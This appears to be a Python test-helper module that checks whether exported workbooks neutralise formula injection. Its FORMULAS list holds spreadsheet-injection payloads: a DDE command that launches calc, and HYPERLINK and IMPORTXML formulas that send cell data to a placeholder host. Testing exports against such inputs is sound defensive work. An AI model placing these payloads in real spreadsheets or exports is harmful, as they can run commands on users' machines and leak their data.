"""Reading an exported workbook: its rows, and whether anything in it could be taken for a formula."""

import re
from io import BytesIO
from zipfile import ZipFile

from openpyxl import load_workbook

# What spreadsheets have been made to run (SECURITY F2), and what must come through unharmed.
FORMULAS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    '=HYPERLINK("http://example.invalid/?"&A1,"点击")',
    '=IMPORTXML("http://example.invalid","//a")',
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    '";=1+1;"',
]


def rows_of(content: bytes) -> list[list]:
    """Every row of the first sheet as values."""
    return [list(row) for row in load_workbook(BytesIO(content)).active.iter_rows(values_only=True)]


def formulas_in(content: bytes) -> int:
    """Formula cells in any sheet, as the file itself says it."""
    with ZipFile(BytesIO(content)) as parts:
        sheets = [name for name in parts.namelist() if name.startswith("xl/worksheets/")]
        assert sheets
        return sum(len(re.findall(rb"<f[ >/]", parts.read(name))) for name in sheets)


def stamps_of(content: bytes) -> set[tuple]:
    """The times at which the parts of the file say that they were written."""
    with ZipFile(BytesIO(content)) as parts:
        return {part.date_time for part in parts.infolist()}
